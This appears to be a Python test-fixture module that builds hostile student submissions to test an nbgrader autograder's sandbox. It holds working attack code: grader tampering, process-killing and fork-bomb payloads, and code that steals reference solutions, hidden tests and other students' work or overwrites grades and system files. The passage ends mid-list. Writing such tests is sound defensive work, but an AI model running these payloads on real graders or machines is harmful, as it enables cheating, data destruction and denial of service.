"""Hostile submissions for em_prankster: what the autograder must survive.

``cases(release_nb, source_nb)`` builds one ``Case`` per hostile student. Each case is a
folder of files to place at ``submitted/<case.name>/em_prankster/`` and starts from one of
three honest submissions (``case.base``):

- ``blank``: the release notebook as it is;
- ``correct``: every solution cell filled with the reference solution from source/;
- ``wrong``: the demo's ``mistakes`` student (demo/make_submissions.py: three typical
  mistakes, otherwise correct).

The three bases are cases themselves (kind ``base``), so a grading test can compare each
hostile case's score with that of its base. The other kinds:

- ``time``: code that never finishes, or finishes very slowly;
- ``memory``: code or stored outputs that eat memory;
- ``crash``: code that ends the kernel, or the grading process that started it;
- ``tampering``: edits of the test cells, their metadata or the grading helpers, aimed at
  a score the code does not earn (these start from ``wrong``, so any gain shows);
- ``bad_file``: the notebook renamed, in an old format, truncated, missing or doubled;
- ``isolation``: code that uses only ordinary modules to read the reference, the hidden
  tests or other students' work, write outside its folder, signal other processes, fork
  without end, reach the network or leave processes behind (the sandbox's cases);
- ``honest``: correct submissions graded beside the isolation cases;
- ``in_process``: code in the kernel that tries to decide its own verdicts (input and AST
  transformers, a wrapped ``run_cell``, patched checks or hand-out, ``sys.settrace``, forged
  hand-ins from a solution cell or a thread) with nothing solved, and a correct student who
  prints everything the kernel remembers after the last test;
- ``bad_hand_in``: correct students whose kernel hands in what the grader must refuse (too
  large, pickled, too deep, too long, NaN) or sends messages no client should read (their
  code reaches into the kernel, which the scan flags: tests/test_hostile.py grades them with
  the scan off, so that their points show).

Each case carries what grading must make of it (``Case.expect``, an ``Expect``), beside the
code that builds it; tests/test_hostile.py checks every one.

None of these should be executed outside a sandboxed grading run: some loop forever, take
8 GiB, or kill the process that started the kernel.

Imports ``demo.make_submissions`` and ``grading``, the course's packages (installed in editable
mode, pyproject.toml).
"""
import ast
import base64
import copy
import io
import os
import pathlib
import textwrap
import functools
from dataclasses import dataclass, field

import nbformat
import numpy as np

from demo import make_submissions
from coursetools import notebook_cells
from support import ANSWERS, FUNCTIONS, NOTEBOOK, RELEASE_NB, SOURCE_NB
ROOT = pathlib.Path(__file__).resolve().parents[1]
REAL_GRADING = ROOT / "source" / "em_prankster" / "em_grading.py"
DATA_SHAPE = (100, 200, 1000)  # data_em.npy: uint8 photos, H x W x K
SECTIONS = (*FUNCTIONS, *ANSWERS)  # in notebook order
AFTER = {f: SECTIONS[i:] for i, f in enumerate(SECTIONS)}  # a crash there loses these


@dataclass(frozen=True)
class Expect:
    """What grading must make of a case (tests/test_hostile.py checks each field that is set).

    lose        the sections (functions, answers) that may score less than the case's honest
                base; every other cell keeps the base's points. None: not compared cell by cell.
    says        what the summary gives as the reason for those lost cells (timeout, memory, crash).
    not_graded  what the summary gives as the reason the case has no score.
    tampering   "repaired" (grading undid the edit: the base's grades) or "held" (held for review).
    in_kernel   "stubs" (scores what the release's stubs score, 0), "forges" (that, and its forged
                hand-ins reach the grader, which judges them wrong) or "leaks" (shows no hidden
                number or name in its outputs or feedback).
    """
    lose: tuple = None
    says: str = None
    not_graded: str = None
    tampering: str = None
    in_kernel: str = None


@dataclass
class Case:
    name: str            # student id, e.g. "time_loop_forever"
    kind: str            # "base", "time", "memory", "crash", "tampering", "bad_file", ...
    base: str            # "blank", "correct" or "wrong": the honest submission it starts from
    what: str            # one line: what the student did
    files: dict          # relative path inside submitted/<name>/em_prankster/ -> bytes
    expect: Expect = field(default_factory=Expect)


# ---------------------------------------------------------------------------------------
# Building blocks


def dumps(nb):
    """A notebook file's bytes."""
    return nbformat.writes(nb).encode()


def new_cell(source):
    """A plain code cell, without nbgrader metadata (and without a cell id: nbformat 4.4)."""
    cell = nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))
    cell.pop("id", None)
    return cell


def insert_after(nb, grade_id, source):
    """A copy of ``nb`` with a new code cell right after the cell ``grade_id``."""
    nb = copy.deepcopy(nb)
    index = next(i for i, c in enumerate(nb.cells)
                 if notebook_cells.nbgrader_meta(c).get("grade_id") == grade_id)
    nb.cells.insert(index + 1, new_cell(source))
    return nb


def prepend_to_function(code, function, line):
    """``code`` with ``line`` as the first statement of ``function`` (after its docstring)."""
    tree = ast.parse(code)
    node = next(n for n in ast.walk(tree)
                if isinstance(n, ast.FunctionDef) and n.name == function)
    body = node.body
    has_docstring = (isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant)
                     and isinstance(body[0].value.value, str))
    first = body[1] if has_docstring else body[0]
    lines = code.splitlines()
    lines.insert(first.lineno - 1, " " * first.col_offset + line)
    edited = "\n".join(lines)
    # The edit happened: the function's first statement is now the inserted line.
    node = next(n for n in ast.walk(ast.parse(edited))
                if isinstance(n, ast.FunctionDef) and n.name == function)
    inserted = ast.parse(line).body[0]
    assert ast.dump(node.body[1 if has_docstring else 0]) == ast.dump(inserted), function
    return edited


def edit_solutions(release_nb, answers, edits):
    """A submission from ``answers`` with solution cells changed: grade_id -> code -> code."""
    answers = dict(answers)
    for gid, edit in edits.items():
        before = answers[gid]
        answers[gid] = edit(before)
        assert answers[gid] != before, gid
    return notebook_cells.make_submission(release_nb, answers)


def at_start(function, line):
    """An edit: ``line`` first in ``function``, which has the cell's grade_id as its name."""
    return lambda code: prepend_to_function(code, function, line)


def slow(function):
    """An edit: ``import time`` atop the cell and ``time.sleep(2)`` first in ``function``
    (less than the suite's cell limit, more than its submission limit over all calls)."""
    return lambda code: "import time\n" + prepend_to_function(code, function, "time.sleep(2)")


def at_end(line):
    """An edit: ``line`` at top level, at the end of the cell."""
    return lambda code: code.rstrip("\n") + "\n\n" + line


def is_test(cell):
    """A test cell: nbgrader ``grade: True`` (the 0-point bonus cells included)."""
    return bool(notebook_cells.nbgrader_meta(cell).get("grade"))


def edit_tests(nb, edit):
    """A copy of ``nb`` with ``edit(cell)`` applied to every test cell in place."""
    nb = copy.deepcopy(nb)
    cells = [c for c in nb.cells if is_test(c)]
    assert cells
    for cell in cells:
        edit(cell)
    return nb


def set_meta(**values):
    """An edit of a test cell's nbgrader metadata."""
    return lambda cell: cell.metadata.nbgrader.update(values)


def imported_grading_names(release_nb):
    """The names the ``imports`` cell takes from em_grading (``from em_grading import ...``)."""
    source = notebook_cells.cells_by_id(release_nb)["imports"].source
    code = "\n".join(line for line in source.splitlines() if not line.lstrip().startswith("%"))
    names = [alias.asname or alias.name for node in ast.walk(ast.parse(code))
             if isinstance(node, ast.ImportFrom) and node.module == "em_grading"
             for alias in node.names]
    assert names, "the imports cell no longer imports names from em_grading"
    return names


def noop_grading_module():
    """Source of an em_grading.py whose public functions, the real ones' names, do nothing."""
    tree = ast.parse(REAL_GRADING.read_text())
    names = [n.name for n in tree.body
             if isinstance(n, ast.FunctionDef) and not n.name.startswith("_")]
    assert "check_close" in names
    return ('"""em_grading, as a student would like it."""\n\n\n'
            + "\n\n".join(f"def {name}(*args, **kwargs):\n    return None\n" for name in names))


def zero_data():
    """data_em.npy of the right shape and dtype, all zeros."""
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(DATA_SHAPE, dtype=np.uint8))
    return buffer.getvalue()


def wrong_answers(release_nb):
    """The demo ``mistakes`` student's solution cells (demo/make_submissions.py)."""
    mistakes = make_submissions.submissions()["mistakes"]
    cells = notebook_cells.cells_by_id(mistakes)
    return {gid: cells[gid].source for gid in notebook_cells.solution_ids(release_nb)}


# ---------------------------------------------------------------------------------------
# The suite


def cases(release_nb, source_nb):
    """Every hostile case (and the three honest bases), in a fixed order."""
    reference = notebook_cells.reference_code(source_nb)
    wrong_code = wrong_answers(release_nb)
    bases = {
        "blank": copy.deepcopy(release_nb),
        "correct": notebook_cells.make_submission(release_nb, reference),
        "wrong": notebook_cells.make_submission(release_nb, wrong_code),
    }
    correct, wrong = bases["correct"], bases["wrong"]
    grading_names = imported_grading_names(release_nb)
    noop_grading = noop_grading_module()
    out = []

    def add(name, kind, base, what, nb=None, files=None, expect=Expect()):
        files = dict(files or {})
        if nb is not None:
            files[NOTEBOOK] = dumps(nb)
        out.append(Case(name, kind, base, what, files, expect))

    kept = Expect(lose=())  # every cell keeps the base's points (the bases are the yardsticks)

    def solved(**edits):
        """The correct submission with solution cells edited."""
        return edit_solutions(release_nb, reference, edits)

    # -- the honest bases
    add("base_blank", "base", "blank", "hands in the release notebook unchanged", bases["blank"])
    add("base_correct", "base", "correct", "the reference solution", correct)
    add("base_wrong", "base", "wrong", "the demo's three typical mistakes", wrong)

    # -- time
    add("time_loop_forever", "time", "correct", "run_e_step starts with `while True: pass`",
        solved(run_e_step=at_start("run_e_step", "while True: pass")),
        expect=Expect(lose=("run_e_step", "run_EM"), says="timeout"))  # run_EM's early stop calls run_e_step
    add("time_loop_top_level", "time", "correct",
        "the calculate_lower_bound cell ends with a top-level `while True: pass`",
        solved(calculate_lower_bound=at_end("while True: pass")), expect=kept)
    add("time_ignores_interrupt", "time", "correct",
        "a cell after run_m_step_loops loops forever, swallowing KeyboardInterrupt",
        insert_after(correct, "run_m_step_loops", """
            import time
            while True:
                try: time.sleep(0.5)
                except KeyboardInterrupt: pass
            """), expect=Expect(lose=AFTER["run_EM"], says="timeout"))
    add("time_slow_everywhere", "time", "correct",
        "each of the five functions first sleeps 2 s",
        solved(**{f: slow(f) for f in FUNCTIONS}), expect=Expect(lose=SECTIONS, says="timeout"))

    # -- memory
    add("memory_8_gib", "memory", "correct", "run_m_step first allocates and fills 8 GiB",
        solved(run_m_step=at_start("run_m_step", "_hog = np.ones((1024, 1024, 1024))")),
        expect=Expect(lose=("run_m_step", "run_EM"), says="memory"))
    add("memory_output_flood", "memory", "correct", "a cell after imports prints 60 MB",
        insert_after(correct, "imports", 'for i in range(600_000): print("x" * 99)'), expect=kept)
    stored = copy.deepcopy(correct)
    notebook_cells.cells_by_id(stored)["example_image"].outputs = [nbformat.v4.new_output(
        "display_data",
        data={"image/png": base64.b64encode(os.urandom(22_500_000)).decode(),
              "text/plain": "<Figure size 800x400 with 1 Axes>"})]
    add("memory_stored_outputs", "memory", "correct",
        "the example_image cell carries a 30 MB stored image/png output", stored, expect=kept)

    # -- crash
    add("crash_os_exit", "crash", "correct", "the run_m_step cell ends with os._exit(0)",
        solved(run_m_step=at_end("import os; os._exit(0)")),
        expect=Expect(lose=AFTER["run_m_step"], says="crash"))
    add("crash_segfault", "crash", "correct", "run_EM first reads address 0 (segfault)",
        solved(run_EM=at_start("run_EM", "import ctypes; ctypes.string_at(0)")),
        expect=Expect(lose=AFTER["run_EM"], says="crash"))
    add("crash_system_exit", "crash", "correct",
        "the calculate_lower_bound cell ends with raise SystemExit(1)",
        solved(calculate_lower_bound=at_end("raise SystemExit(1)")), expect=kept)
    add("crash_exit_builtin", "crash", "correct", "the run_e_step cell ends with exit()",
        solved(run_e_step=at_end("exit()")),
        # exit() ends the kernel a few cells later, when it gets to it: on a loaded machine the
        # kernel may stop answering (a timeout) before it is gone (a crash)
        expect=Expect(lose=AFTER["run_e_step"], says="(crash|timeout)"))
    add("crash_kill_grader", "crash", "correct",
        "the answer_location cell SIGKILLs the kernel's parent (the grader)",
        solved(answer_location=at_end("import os, signal; os.kill(os.getppid(), signal.SIGKILL)")),
        # In the sandbox the kernel's parent is the sandbox's own init, which it may not signal.
        expect=Expect(lose=("answer_location",)))

    # -- tampering (from the wrong submission, so that any gain shows)
    def tags(*names):
        def edit(cell):
            cell.metadata["tags"] = list(names)
        return edit

    def edited(cell):
        cell.metadata.nbgrader["locked"] = False
        cell.source = 'print("ok")'

    def commented(cell):
        cell.source = "\n".join("# " + line for line in cell.source.splitlines())

    def renamed(cell):
        cell.metadata.nbgrader["grade_id"] += "_x"

    repaired, held = Expect(tampering="repaired"), Expect(tampering="held")
    for name, edit, what in [
        ("tamper_skip_tags", tags("skip-execution"), "test cells tagged skip-execution"),
        ("tamper_raises_tags", tags("raises-exception"), "test cells tagged raises-exception"),
        ("tamper_grade_flag", set_meta(grade=False), "test cells' nbgrader grade set to False"),
        ("tamper_points", set_meta(points=1000), "test cells' points set to 1000"),
        ("tamper_grade_id", renamed, "test cells' grade_ids renamed with the suffix _x"),
        ("tamper_edited_tests", edited, "test cells unlocked and replaced by print('ok')"),
        ("tamper_commented_tests", commented, "test cells commented out line by line"),
    ]:
        add(name, "tampering", "wrong", what, edit_tests(wrong, edit), expect=repaired)

    deleted = copy.deepcopy(wrong)
    deleted.cells = [c for c in deleted.cells if not is_test(c)]
    add("tamper_deleted_tests", "tampering", "wrong", "test cells deleted", deleted, expect=repaired)
    reordered = copy.deepcopy(wrong)
    reordered.cells = ([c for c in reordered.cells if is_test(c)][::-1]
                       + [c for c in reordered.cells if not is_test(c)])
    add("tamper_reordered", "tampering", "wrong",
        "test cells moved, in reverse order, to the start of the notebook", reordered, expect=repaired)

    add("tamper_patch_numpy", "tampering", "wrong",
        "a cell after imports makes numpy's comparisons and abs/all lie",
        insert_after(wrong, "imports", """
            import builtins
            np.allclose = lambda *args, **kwargs: True
            np.isclose = lambda *args, **kwargs: True
            np.testing.assert_allclose = lambda *args, **kwargs: None
            np.array_equal = lambda *args, **kwargs: True
            builtins.abs = lambda x: 0
            builtins.all = lambda iterable: True
            """), expect=held)
    rebind = "\n".join(f"{n} = lambda *a, **k: None" for n in grading_names)
    add("tamper_patch_grader", "tampering", "wrong",
        "a cell after imports makes every em_grading function a no-op",
        insert_after(wrong, "imports", """
            import em_grading
            for _name in dir(em_grading):
                if not _name.startswith("_") and callable(getattr(em_grading, _name)):
                    setattr(em_grading, _name, lambda *a, **k: None)
            """ + rebind), expect=held)
    add("tamper_input_transformer", "tampering", "wrong",
        "a cell after imports turns every later cell into `pass`",
        insert_after(wrong, "imports",
                     'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])'),
        expect=held)
    add("tamper_files", "tampering", "wrong",
        "hands in a no-op em_grading.py and an all-zero data_em.npy with the notebook",
        wrong, {"em_grading.py": noop_grading.encode(), "data_em.npy": zero_data()}, expect=repaired)
    rebind_from_module = "\n".join(f"{n} = em_grading.{n}" for n in grading_names)
    add("tamper_runtime_write", "tampering", "wrong",
        "a cell after imports overwrites em_grading.py with no-ops and reloads it",
        insert_after(wrong, "imports",
                     f"with open('em_grading.py', 'w') as _f:\n    _f.write({noop_grading!r})\n"
                     "import importlib, em_grading\nimportlib.reload(em_grading)\n"
                     + rebind_from_module), expect=held)

    # -- bad files (from the correct submission)
    correct_bytes = dumps(correct)
    add("bad_renamed", "bad_file", "correct", "the notebook saved as my_solution.ipynb",
        files={"my_solution.ipynb": correct_bytes}, expect=kept)
    v3 = nbformat.writes(nbformat.convert(copy.deepcopy(correct), 3), version=3)
    back = notebook_cells.cells_by_id(nbformat.reads(v3, as_version=4))
    assert back.keys() == notebook_cells.cells_by_id(correct).keys(), "nbgrader metadata lost in v3"
    add("bad_nbformat3", "bad_file", "correct", "the notebook saved as nbformat 3",
        files={NOTEBOOK: v3.encode()}, expect=kept)
    add("bad_invalid_json", "bad_file", "correct", "only the first 5000 bytes of the notebook",
        files={NOTEBOOK: correct_bytes[:5000]}, expect=Expect(not_graded="is not valid JSON"))
    add("bad_missing", "bad_file", "correct", "no notebook, only a README.txt",
        files={"README.txt": b"I forgot to upload it\n"},
        expect=Expect(not_graded="no notebook in the submission"))
    add("bad_two_notebooks", "bad_file", "correct",
        "two notebooks, draft.ipynb (blank) and final.ipynb (correct), neither the expected name",
        files={"draft.ipynb": dumps(bases["blank"]), "final.ipynb": correct_bytes},
        expect=Expect(not_graded="none is named em_prankster.ipynb"))

    # -- isolation (each beside an honest student, whose grade must not change)
    for name, base, what, content, expect in isolation_cases(release_nb, reference):
        if isinstance(content, nbformat.NotebookNode):
            add(name, "isolation", base, what, content, expect=expect)
        else:
            add(name, "isolation", base, what, files=content, expect=expect)
    for kind in ("fork", "read", "signal", "write"):
        add(f"{kind}_zz_honest", "honest", "correct",
            f"the reference solution, graded in the same shard as the {kind}_ cases", correct, expect=kept)

    # -- in the kernel: hooks, patches and forged hand-ins (nothing solved), and a leaker
    for name, base, what, nb, expect in in_process_cases(release_nb, reference):
        add(name, "in_process", base, what, nb, expect=expect)
    for name, base, what, nb in bad_hand_in_cases(release_nb, reference):
        add(name, "bad_hand_in", base, what, nb)  # tests/test_hostile.py: BAD_HAND_IN_MESSAGES

    assert len({c.name for c in out}) == len(out), "case names must be unique"
    return out


# ---------------------------------------------------------------------------------------
# Isolation: code that uses only ordinary modules to reach past its own submission.
#
# Each attack cell prints one line, ``ATTACK {json}``, saying what it found and did, so a
# test can check that it found nothing (tests/test_hostile.py reads it from the autograded
# notebook). ``TOOLKIT`` is what every attack cell starts with: ways to find the course
# from inside a kernel, as a student who has read this repository would look for it.

# tests/test_hostile.py listens here on the host's loopback: below Linux's ephemeral ports
# (32768-60999), which the free ports and outgoing connections of tests running meanwhile take
LISTEN_PORT = 29413
LISTEN_ABSTRACT = "em-hostile-listener"  # and on this abstract Unix socket
MARKER = "em-hostile-marker"  # files the write attacks leave wherever they can
LINGER_SECONDS = 3617  # the lingering processes run `sleep 3617`

TOOLKIT = '''
import json, os, pathlib

def _walk_up():
    here = pathlib.Path.cwd()
    return [here, *here.parents]

def _through_proc():
    found = []
    for proc in pathlib.Path("/proc").glob("[0-9]*"):
        for what in ("cwd", "root"):
            try:
                found.append(pathlib.Path(os.readlink(proc / what)))
            except OSError:
                pass
        try:
            env = (proc / "environ").read_bytes().split(b"\\0")
            found += [pathlib.Path(e[4:].decode()) for e in env if e.startswith(b"PWD=")]
        except OSError:
            pass
    return [f for start in found for f in [start, *start.parents]]

def _search(limit=20000):
    found, seen = [], 0
    for where, dirs, files in os.walk("/"):
        seen += 1
        dirs[:] = [d for d in dirs if os.path.join(where, d) not in ("/proc", "/sys", "/dev", "/usr")
                   and where.count("/") < 8]
        if "nbgrader_config.py" in files or "gradebook.db" in files:
            found.append(pathlib.Path(where))
        if seen > limit:
            break
    return found

def _course_roots(ways=("up", "proc", "search")):
    starts = []
    if "up" in ways: starts += _walk_up()
    if "proc" in ways: starts += _through_proc()
    if "search" in ways: starts += _search()
    roots = []
    for folder in starts:
        try:
            if ((folder / "nbgrader_config.py").exists() or (folder / "gradebook.db").exists()) \\
                    and folder not in roots:
                roots.append(folder)
        except OSError:
            pass
    return roots

def _notebooks(roots, patterns):
    return sorted({str(p) for root in roots for pattern in patterns for p in root.glob(pattern)})

def _use_solutions(path):
    """Run the solution cells of the notebook at ``path`` here, as if written by hand."""
    import code
    nb = json.loads(pathlib.Path(path).read_text())
    used = 0
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
        if cell["cell_type"] != "code" or not meta.get("solution") or "NotImplementedError" in source:
            continue
        source = "\\n".join(l for l in source.splitlines() if "### " not in l and not l.startswith("%"))
        code.InteractiveInterpreter(globals()).runsource(source, "<found>", "exec")
        used += 1
    return used

def _report(**what):
    print("ATTACK " + json.dumps(what, default=str))
'''


def attack(body):
    """An attack cell: the toolkit, then ``body``, run from a string the scan cannot read.

    The scan (grading/steps/scan.py) reads code, not strings: run through ``code``'s interpreter,
    the attack is not held for review, and only the sandbox stands in its way. What the
    attack defines (stolen solutions) is in the dict ``_stolen``.
    """
    source = TOOLKIT + textwrap.dedent(body)
    return ("import code as _code\n_stolen = {'np': np}\n"
            f"_code.InteractiveInterpreter(_stolen).runsource({source!r}, '<attack>', 'exec')")


def defined_name(code):
    """The name a solution cell defines: its first function, or its first assigned name."""
    for node in ast.parse(code).body:
        if isinstance(node, ast.FunctionDef):
            return node.name
        if isinstance(node, ast.Assign):
            return node.targets[0].id
    raise ValueError(code)


def stealing(release_nb, reference, body):
    """The release notebook whose solution cells take what ``body`` stole (``_stolen``).

    An attack cell after the imports runs ``body``; each solution cell then binds its name
    to what the attack found, or to None (so it scores what a blank notebook does).
    """
    answers = {gid: f"{defined_name(code)} = _stolen.get({defined_name(code)!r})"
               for gid, code in reference.items()}
    return insert_after(notebook_cells.make_submission(release_nb, answers), "imports", attack(body))


READ_REFERENCE = '''
roots = _course_roots(WAYS)
found = _notebooks(roots, ["source/*/*.ipynb"])
used = sum(_use_solutions(p) for p in found[:1])
_report(roots=[str(r) for r in roots], found=found, used=used)
'''

READ_OTHERS = '''
roots = _course_roots()
mine = pathlib.Path.cwd().parent.name
found = [p for p in _notebooks(roots, ["submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb",
                                        ".grading/staged/*/*/*.ipynb"]) if mine not in p]
used = 0
for path in found:
    if "NotImplementedError()" not in pathlib.Path(path).read_text():
        used = _use_solutions(path)
        break
_report(roots=[str(r) for r in roots], found=found[:20], used=used)
'''

READ_GRADEBOOK = '''
import sqlite3
roots = _course_roots()
hidden = []
for root in roots:
    try:
        db = sqlite3.connect(f"file:{root / 'gradebook.db'}?mode=ro", uri=True)
        hidden += [row[0] for row in db.execute("SELECT source FROM source_cell")
                   if "BEGIN HIDDEN TESTS" in row[0]]
    except sqlite3.Error:
        pass
_report(roots=[str(r) for r in roots], found=len(hidden))
'''

READ_OWN_NOTEBOOK = '''
found = []
for path in list(pathlib.Path.cwd().glob("*.ipynb")) + list(pathlib.Path.cwd().parent.glob("*/*.ipynb")):
    try:
        text = path.read_text()
    except OSError:
        continue
    if "BEGIN HIDDEN TESTS" in text or "BEGIN CHECKS" in text:
        found.append(str(path))
_report(folder=sorted(os.listdir(".")), found=found)
'''

READ_LINK = '''
used = 0
for name in ("reference.ipynb", "shard_reference.ipynb"):
    try:
        used += _use_solutions(name)
    except OSError as error:
        _report(name=name, error=str(error))
_report(folder=sorted(os.listdir(".")), used=used)
'''

WRITE_COURSE = '''
roots = _course_roots(WAYS)
done = []
for root in roots:
    for name in ("nbgrader_config.py", "Makefile", "README.md"):
        try:
            with (root / name).open("a") as f:
                f.write("\\n# MARKER\\nc.Execute.timeout = 1\\n")
            done.append(str(root / name))
        except OSError:
            pass
    for path in root.glob("source/*/em_grading.py"):
        try:
            path.write_text("def check_close(*a, **k): pass\\n")
            done.append(str(path))
        except OSError:
            pass
    try:
        (root / "source" / "MARKER.py").write_text("x = 1\\n")
        done.append(str(root / "source" / "MARKER.py"))
    except OSError:
        pass
_report(roots=[str(r) for r in roots], done=done)
'''.replace("MARKER", MARKER)

WRITE_GRADEBOOK = '''
import sqlite3
roots = _course_roots()
done = []
for root in roots:
    try:
        db = sqlite3.connect(str(root / "gradebook.db"))
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.execute("UPDATE grade_cell SET max_score = 1000")
        db.commit()
        done.append(str(root / "gradebook.db"))
    except sqlite3.Error:
        pass
_report(roots=[str(r) for r in roots], done=done)
'''

WRITE_OTHERS = '''
roots = _course_roots()
mine = pathlib.Path.cwd().parent.name
blank = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
done = []
for path in _notebooks(roots, ["submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb",
                               ".grading/staged/*/*/*.ipynb", ".grading/shards/*/submitted/*/*/*.ipynb"]):
    if mine in path:
        continue
    try:
        pathlib.Path(path).write_text(blank)
        done.append(path)
    except OSError:
        pass
_report(roots=[str(r) for r in roots], done=done)
'''

WRITE_HOME_TMP = '''
done = []
for folder in (os.path.expanduser("~"), "/root", "/tmp", "/var/tmp", "/dev/shm",
               os.path.expanduser("~/.ipython/profile_default/startup"), "/etc", "/usr/local/bin"):
    try:
        pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
        (pathlib.Path(folder) / "MARKER").write_text("was here\\n")
        done.append(folder)
    except OSError:
        pass
_report(done=done, home=os.path.expanduser("~"))
'''.replace("MARKER", MARKER)

SIGNAL_BY_NAME = '''
import signal
found, done = [], []
for proc in pathlib.Path("/proc").glob("[0-9]*"):
    try:
        cmd = (proc / "cmdline").read_bytes().replace(b"\\0", b" ").decode()
    except OSError:
        continue
    if int(proc.name) == os.getpid() or not any(
            w in cmd for w in ("nbgrader", "grading.run.parallel", "pytest", "ipykernel", "bwrap")):
        continue
    found.append(cmd[:80])
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(int(proc.name), sig)
            done.append(proc.name)
        except OSError:
            pass
_report(found=found, done=done)
'''

SIGNAL_EVERYONE = '''
import signal
done = []
for proc in pathlib.Path("/proc").glob("[0-9]*"):
    if int(proc.name) != os.getpid():
        try:
            os.kill(int(proc.name), signal.SIGKILL)
            done.append(proc.name)
        except OSError:
            pass
_report(done=done)
os.kill(-1, signal.SIGKILL)  # everything it may signal, itself included
'''

FORK_PROCESSES = '''
import time
children, error = 0, None
try:
    while True:
        if os.fork() == 0:  # each child waits until all are there, then keeps a core busy
            time.sleep(3)
            while True:
                pass
        children += 1
except OSError as e:
    error = str(e)
_report(children=children, error=error)
'''

FORK_THREADS = '''
import threading, time
started, error = 0, None
try:
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        started += 1
except RuntimeError as e:
    error = str(e)
_report(threads=started, error=error)
'''

NETWORK = f'''
import socket
result = {{"interfaces": [name for _, name in socket.if_nameindex()]}}
try:
    result["routes"] = pathlib.Path("/proc/net/route").read_text().splitlines()[1:]
except OSError as e:
    result["routes"] = str(e)
def _try(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(address)
        s.sendall(b"hello from a kernel\\n")
        return "connected"
    except OSError as e:
        return "failed: " + str(e)
    finally:
        s.close()
result["grader_loopback"] = _try(socket.AF_INET, ("127.0.0.1", {LISTEN_PORT}))
result["grader_abstract"] = _try(socket.AF_UNIX, "\\0{LISTEN_ABSTRACT}")
try:
    result["dns"] = str(socket.getaddrinfo("pypi.org", 443)[:1])
except OSError as e:
    result["dns"] = "failed: " + str(e)
_report(**result)
'''

LINGER = f'''
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/usr/bin/sleep", ["sleep", "{LINGER_SECONDS}"])
    os._exit(0)
os.waitpid(pid, 0)
import threading, time
def _later():
    time.sleep(2)
    for root in _course_roots(("up", "proc")):
        try:
            (root / "{MARKER}-later").write_text("x")
        except OSError:
            pass
threading.Thread(target=_later).start()
_report(forked=True)
'''


def isolation_cases(release_nb, reference, course_hint="../../.."):
    """The isolation cases: (name, base, what, notebook or files, Expect).

    Each must find and reach nothing (tests/test_hostile.py reads what it printed); the reading
    cases start blank and are not compared cell by cell, the others keep their base's points
    outside the cells their attack costs. ``course_hint``: the course folder relative to ``submitted/<student>/em_prankster/``, as
    a student who has read the README would guess it.
    """
    blank = copy.deepcopy(release_nb)
    correct = notebook_cells.make_submission(release_nb, reference)
    out = []
    for ways, name in [(("up",), "read_reference_walking_up"), (("proc",), "read_reference_via_proc"),
                       (("search",), "read_reference_by_search")]:
        out.append((name, "blank", f"looks for source/ ({ways[0]}), runs the reference's solutions",
                    stealing(release_nb, reference, READ_REFERENCE.replace("WAYS", repr(ways))), Expect()))
    out.append(("read_other_students", "blank", "runs another student's solved notebook",
                stealing(release_nb, reference, READ_OTHERS), Expect()))
    out.append(("read_hidden_tests", "blank", "reads the hidden tests from gradebook.db",
                insert_after(blank, "imports", attack(READ_GRADEBOOK)), Expect()))
    out.append(("read_own_notebook", "blank", "reads the notebook being graded, hidden tests "
                "and all, from its working folder",
                insert_after(blank, "imports", attack(READ_OWN_NOTEBOOK)), Expect()))
    out.append(("read_through_links", "blank",
                "hands in links to source/'s notebook, relative to submitted/ and to a shard",
                {NOTEBOOK: dumps(stealing(release_nb, reference, READ_LINK)),
                 "reference.ipynb": Symlink(f"{course_hint}/source/em_prankster/{NOTEBOOK}"),
                 "shard_reference.ipynb": Symlink(f"../../../{course_hint}/source/em_prankster/{NOTEBOOK}")},
                Expect()))
    for name, code, what in [
        ("write_course_files", WRITE_COURSE.replace("WAYS", "('up', 'proc', 'search')"), "appends to nbgrader_config.py, Makefile, README; "
         "replaces em_grading.py in source/"),
        ("write_gradebook", WRITE_GRADEBOOK, "zeroes every grade in gradebook.db"),
        ("write_other_students", WRITE_OTHERS, "overwrites other students' notebooks with blanks"),
        ("write_home_and_tmp", WRITE_HOME_TMP, "leaves files in the home folder, /tmp, /etc ..."),
        ("net_connections", NETWORK, "lists interfaces, connects to the grader's loopback, DNS"),
        ("linger_after_kernel", LINGER, "leaves a `sleep` and a thread behind to act later"),
        ("signal_grader_by_name", SIGNAL_BY_NAME, "stops and kills nbgrader, pytest, other kernels"),
    ]:
        out.append((name, "correct", what, insert_after(correct, "imports", attack(code)), Expect(lose=())))
    out.append(("signal_everyone", "correct",
                "the answer_location cell SIGKILLs every process it sees, then all it may (kill -1)",
                edit_solutions(release_nb, reference, {
                    "answer_location": at_end(attack(SIGNAL_EVERYONE))}),
                Expect(lose=())))  # kill(-1) spares the caller: it reaches nothing at all
    out.append(("fork_processes", "correct", "a cell after run_m_step forks busy children until refused",
                insert_after(correct, "run_m_step_loops", attack(FORK_PROCESSES)),
                Expect(lose=AFTER["run_EM"])))  # its busy children slow its own kernel only
    out.append(("fork_threads", "correct", "a cell after imports starts threads until refused",
                insert_after(correct, "imports", attack(FORK_THREADS)), Expect(lose=())))
    return out


def unsandboxed_cases(release_nb, reference):
    """Attacks that succeed without the sandbox and harm only the course they are graded in.

    They look for the course only by walking up from the working folder, so run without
    the sandbox (tests/test_hostile.py does, in a throw-away course, to show that the
    isolation tests can fail) they never reach another course on the machine.
    """
    correct = notebook_cells.make_submission(release_nb, reference)
    return [
        ("read_reference_walking_up", "blank", "walks up to source/, runs the reference",
         stealing(release_nb, reference, READ_REFERENCE.replace("WAYS", "('up',)"))),
        ("write_course_files", "correct", "walks up, appends to nbgrader_config.py",
         insert_after(correct, "imports", attack(WRITE_COURSE.replace("WAYS", "('up',)")))),
